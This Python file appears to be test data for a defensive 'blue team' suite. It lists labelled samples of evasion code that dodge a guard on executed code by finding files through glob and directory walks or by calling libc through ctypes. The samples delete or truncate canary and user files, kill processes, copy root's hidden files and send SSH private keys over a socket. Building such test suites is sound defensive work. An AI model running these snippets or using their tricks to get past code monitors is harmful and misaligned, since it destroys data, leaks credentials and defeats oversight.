"""Files found by looking for them, and calls of the native library."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

walk = technique("python", "walk")
native = technique("python", "native library")

EVASIONS = (
    walk(
        "glob",
        Harm.DESTROYED,
        r"""
import glob
import os

for name in glob.glob("/e*/red*.c?nf"):
    os.remove(name)
""",
    ),
    walk(
        "pathlib-rglob",
        Harm.DESTROYED,
        r"""
from pathlib import Path

for entry in Path("/home").rglob("*.txt"):
    entry.unlink()
""",
    ),
    walk(
        "os-walk",
        Harm.DESTROYED,
        r"""
import os

for root, folders, files in os.walk("/var", topdown=False):
    for name in files:
        if name.endswith((".db", ".bak")):
            os.remove(os.path.join(root, name))
""",
    ),
    walk(
        "scandir-by-age",
        Harm.DESTROYED,
        r"""
import os
import time

for entry in os.scandir("/home/mira"):
    if entry.is_file() and not entry.name.startswith(".") and entry.stat().st_mtime <= time.time():
        os.unlink(entry.path)
""",
    ),
    walk(
        "fwalk",
        Harm.DESTROYED,
        r"""
import os

for root, folders, files, fd in os.fwalk("/var/backups"):
    for name in files:
        os.unlink(name, dir_fd=fd)
""",
    ),
    walk(
        "shortest-name",
        Harm.DESTROYED,
        r"""
import os

best = min((p for p in os.listdir("/etc") if "canary" in p and p.endswith("conf")), key=len)
os.remove(os.path.join("/etc", best))
""",
    ),
    walk(
        "by-content",
        Harm.DESTROYED,
        r"""
import pathlib

for found in pathlib.Path("/etc").iterdir():
    if found.is_file() and found.read_bytes().startswith(b"[service]"):
        found.write_bytes(b"")
""",
    ),
    walk(
        "recursion",
        Harm.DESTROYED,
        r"""
import os


def clear(folder):
    for name in os.listdir(folder):
        full = folder + "/" + name
        clear(full) if os.path.isdir(full) else os.remove(full)


clear("/home/mira/photos")
""",
    ),
    walk(
        "glob-of-secrets",
        Harm.EXPOSED,
        r"""
import glob
import shutil

for number, name in enumerate(glob.glob("/root/.*/[ci][rd]*")):
    shutil.copyfile(name, f"/srv/{number}")
""",
    ),
    walk(
        "fnmatch-filter",
        Harm.SENT,
        r"""
import fnmatch
import os
import socket

line = socket.socket()
line.connect(("127.0.0.1", 9001))
for name in fnmatch.filter(os.listdir("/root/.ssh"), "id_*"):
    line.send(open(f"/root/.ssh/{name}", "rb").read())
line.close()
""",
    ),
    native(
        "libc-unlink",
        Harm.DESTROYED,
        r"""
import ctypes

ctypes.CDLL(None).unlink(b"/etc/redblue-canary.conf")
""",
    ),
    native(
        "libc-system",
        Harm.KILLED,
        r"""
from ctypes import *

libc = CDLL("libc.so.6")
libc.system(b"pkill -x canary-db")
""",
    ),
    native(
        "libc-by-index",
        Harm.DESTROYED,
        r"""
import ctypes

ctypes.cdll.LoadLibrary("libc.so.6")["rename"](b"/home/mira/notes.txt", b"/tmp/n")
""",
    ),
    native(
        "libc-getattr",
        Harm.DESTROYED,
        r"""
import ctypes
import ctypes.util

library = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6")
getattr(library, "trunc" + "ate")(b"/var/lib/canary/data.db", 0)
""",
    ),
    native(
        "pythonapi",
        Harm.DESTROYED,
        r"""
import ctypes

ctypes.pythonapi.PyRun_SimpleString(b"import os; os.remove('/etc/redblue-canary.conf')")
""",
    ),
    native(
        "libc-syscall",
        Harm.DESTROYED,
        r"""
import ctypes
import platform

number = {"x86_64": 263, "aarch64": 35}[platform.machine()]
ctypes.CDLL(None).syscall(number, -100, b"/home/mira/notes.txt", 0)
""",
    ),
    native(
        "libc-kill",
        Harm.KILLED,
        r"""
import ctypes
import glob

for comm in glob.glob("/proc/[0-9]*/comm"):
    if open(comm).read() == "mira-editor\n":
        ctypes.CDLL(None).kill(int(comm.split("/")[2]), 15)
""",
    ),
    native(
        "libc-function-pointer",
        Harm.DESTROYED,
        r"""
import ctypes

libc = ctypes.CDLL(None)
address = ctypes.cast(libc.unlink, ctypes.c_void_p).value
ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(address)(b"/var/lib/canary/data.db")
""",
    ),
    native(
        "posix",
        Harm.DESTROYED,
        r"""
import posix

posix.unlink("/root/.ssh/id_canary")
""",
    ),
    native(
        "nt-or-posix",
        Harm.DESTROYED,
        r"""
import os

platform_module = __import__(os.name)
platform_module.rename("/etc/redblue-canary.conf", "/etc/redblue-canary.conf.1")
""",
    ),
    native(
        "private-io",
        Harm.DESTROYED,
        r"""
import _io

_io.open("/home/mira/notes.txt", "wb").close()
""",
    ),
)
